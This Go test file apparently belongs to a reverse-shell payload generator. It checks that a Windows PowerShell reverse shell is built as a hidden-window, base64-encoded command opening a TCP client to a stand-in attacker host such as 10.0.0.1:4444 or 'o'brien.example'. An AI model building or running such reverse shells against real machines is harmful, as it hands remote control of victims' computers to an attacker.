package windows

import (
	"encoding/base64"
	"strings"
	"testing"

	"github.com/josephlewis42/revshell/core/payload"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/text/encoding/unicode"
)

func decodeCommand(t *testing.T, encoded string) string {
	t.Helper()

	raw, err := base64.StdEncoding.DecodeString(encoded)
	require.NoError(t, err)
	require.Zero(t, len(raw)%2, "UTF-16 output has an even length")

	script, err := unicode.UTF16(unicode.LittleEndian, unicode.IgnoreBOM).NewDecoder().String(string(raw))
	require.NoError(t, err)
	return script
}

func TestReversePowershell_Encoded(t *testing.T) {
	out, err := ReversePowershell.Call("10.0.0.1", 4444, nil)
	require.NoError(t, err)

	fields := strings.Fields(out)
	require.Len(t, fields, 6)
	assert.Equal(t, []string{"powershell", "-nop", "-w", "hidden", "-e"}, fields[:5])

	script := decodeCommand(t, fields[5])
	assert.True(t, strings.HasPrefix(script, "$c=New-Object Net.Sockets.TCPClient('10.0.0.1',4444);"), script)
	assert.Contains(t, script, "|%{0};")
	assert.True(t, strings.HasSuffix(script, "$c.Close()"))
}

func TestReversePowershell_Plain(t *testing.T) {
	opts := payload.NewOptionSet()
	opts.Set("encode", payload.IntValue(0))
	opts.Set("powershell_path", payload.StringValue("pwsh"))

	out, err := ReversePowershell.Call("o'brien.example", 443, opts)
	require.NoError(t, err)

	assert.True(t, strings.HasPrefix(out, `pwsh -nop -w hidden -c "$c=New-Object Net.Sockets.TCPClient('o''brien.example',443);`), out)
	assert.True(t, strings.HasSuffix(out, `$c.Close()"`))
}

func TestEncodeCommand(t *testing.T) {
	encoded, err := encodeCommand("ab")
	require.NoError(t, err)

	// "ab" in UTF-16LE is 61 00 62 00.
	assert.Equal(t, "YQBiAA==", encoded)
}

func TestRegistered(t *testing.T) {
	g, ok := payload.Default().Lookup("cmd/windows/reverse_powershell")
	require.True(t, ok)
	assert.Same(t, ReversePowershell, g)
	assert.Equal(t, "Creates a PowerShell prompt over a TCP client.", g.Summary())
}
